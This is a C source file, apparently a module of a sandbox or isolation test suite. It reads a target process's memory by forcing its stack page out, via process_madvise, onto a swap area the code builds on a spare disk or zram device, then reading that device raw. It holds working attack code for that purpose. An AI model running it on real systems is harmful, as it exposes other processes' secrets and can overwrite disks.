/*
 * swap.c - the victim's pages written to a swap area of the attacker's, and read there. For a disposable machine
 * with an empty disk (/dev/vda, /dev/vdb) or zram.
 */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/swap.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>

#include "arch.h"

#ifndef MADV_PAGEOUT
#define MADV_PAGEOUT 21
#endif

enum { PAGE = 4096, BEGIN = 1 << 17, SETTLE_MS = 500, VERSION_AT = 1024, TRIES = 60, TRY_MS = 7 };
#define SIZE (32u << 20)
#define MARK "attacks: a swap area"

/* Nobody's: empty at its beginning, or marked by us before. A file system is neither, mounted or not. */
static int is_spare(const char *device)
{
	static unsigned char begin[BEGIN];
	int fd = open_path(device, O_RDONLY | O_EXCL);
	int spare = fd >= 0 && pread(fd, begin, sizeof(begin), 0) == BEGIN;

	if (fd >= 0)
		(void)close(fd);
	if (spare && memcmp(begin, MARK, sizeof(MARK)) == 0)
		return 1;
	for (size_t i = 0; spare && i < sizeof(begin); i++)
		spare = begin[i] == 0;
	return spare;
}

/* What mkswap writes; and nothing that an earlier attack left. */
static int make_area(int fd)
{
	static unsigned char page[PAGE];
	const uint32_t words[3] = { 1, SIZE / PAGE - 1, 0 }; /* version, last page, bad pages */

	for (off_t at = PAGE; at < (off_t)SIZE; at += PAGE)
		if (pwrite(fd, page, sizeof(page), at) != PAGE)
			return -errno;
	memcpy(page, MARK, sizeof(MARK));
	memcpy(page + VERSION_AT, words, sizeof(words));
	memcpy(page + PAGE - 10, "SWAPSPACE2", 10);
	return pwrite(fd, page, sizeof(page), 0) == PAGE && fsync(fd) == 0 ? 0 : -errno;
}

static const char *area(void)
{
	static const char *const devices[] = { "/dev/vda", "/dev/vdb", "/dev/zram0" };

	(void)put_text("/sys/block/zram0/disksize", "33554432");
	for (size_t i = 0; i < sizeof(devices) / sizeof(devices[0]); i++) {
		(void)swapoff(devices[i]); /* of an attacker that was killed */
		if (is_spare(devices[i]))
			return devices[i];
	}
	return NULL;
}

/* The stack: what children share is not pushed out by one. */
static int push_out_by_advice(const struct attack *a)
{
	struct iovec there = { (void *)(uintptr_t)(a->target.stack & ~(PAGE - 1ULL)), PAGE };

	int pidfd = open_pidfd(a->target.pid, 0), failed = 0;

	for (int i = 0; i < TRIES && failed == 0; i++) {
		if (syscall(SYS_process_madvise, pidfd, &there, 1, MADV_PAGEOUT, 0) < 0)
			failed = -errno;
		moment(TRY_MS);
	}
	return failed;
}

static int read_swap(struct attack *a)
{
	const char *device = area();
	int fd = device == NULL ? -ENODEV : open_path(device, O_RDWR), result;

	if (fd < 0)
		return not_here(a, "no disk for a swap area");
	result = make_area(fd);
	if (result < 0 || swapon(device, 0) < 0)
		return result < 0 ? result : errno == EPERM ? -EPERM : not_here(a, "no swap");
	result = push_out_by_advice(a);
	moment(SETTLE_MS);
	if (result == 0 && fsync(fd) == 0 && posix_fadvise(fd, 0, 0, POSIX_FADV_DONTNEED) == 0)
		result = lseek(fd, 0, SEEK_SET) < 0 ? -errno : saw_file(a, fd);
	(void)swapoff(device);
	return result;
}

/* By memory.reclaim of cgroup2 nobody chooses whose pages: that comes to something else each time. */
const struct row swap_rows[] = {
	{ .name = "swap_pageout", .vector = "swap", .what = "pages pushed out by process_madvise, read from the device",
	  .run = read_swap, .flags = EVERYBODY | HITS_MACHINE },
	{ 0 },
};
